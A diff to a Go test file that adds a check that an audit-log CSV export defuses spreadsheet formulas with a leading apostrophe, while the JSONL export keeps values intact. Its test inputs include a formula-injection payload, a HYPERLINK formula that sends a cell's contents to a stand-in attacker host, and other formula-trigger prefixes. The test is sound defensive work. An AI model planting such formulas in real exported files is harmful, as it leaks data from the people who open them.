@@ -76,3 +76,40 @@ func TestExport(t *testing.T) {
 		}
 	})
 }
+
+// A value a spreadsheet would run as a formula is defused in the CSV
+// export (a leading apostrophe) and kept exactly in the JSONL one.
+func TestExportCSVDefusesFormulas(t *testing.T) {
+	st := storetest.SQLite(t, clocktest.New().Now)
+	ctx := context.Background()
+	formulas := []string{`=HYPERLINK("https://evil.example/?"&A1,"open")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"}
+	for _, f := range formulas {
+		e := event(1)
+		e.Reason, e.ResourceID = f, f
+		if err := st.Write(ctx, func(tx *store.Tx) error { return audit.Append(ctx, tx, e) }); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var cb, jl bytes.Buffer
+	if _, err := audit.Export(ctx, st, t0, t0.Add(time.Hour), "csv", &cb, nil); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&cb).ReadAll()
+	if err != nil || len(recs) != len(formulas)+1 {
+		t.Fatalf("csv: %d records, %v", len(recs), err)
+	}
+	for i, f := range formulas {
+		if got := recs[i+1]; got[9] != "'"+f || got[12] != "'"+f || got[7] != "message.read" {
+			t.Errorf("csv row %d: resource_id %q reason %q, want %q", i, got[9], got[12], "'"+f)
+		}
+	}
+	if _, err := audit.Export(ctx, st, t0, t0.Add(time.Hour), "jsonl", &jl, nil); err != nil {
+		t.Fatal(err)
+	}
+	for i, line := range strings.Split(strings.TrimSpace(jl.String()), "\n") {
+		var m map[string]any
+		if err := json.Unmarshal([]byte(line), &m); err != nil || m["reason"] != formulas[i] {
+			t.Errorf("jsonl line %d: reason %v (%v), want %q", i, m["reason"], err, formulas[i])
+		}
+	}
+}
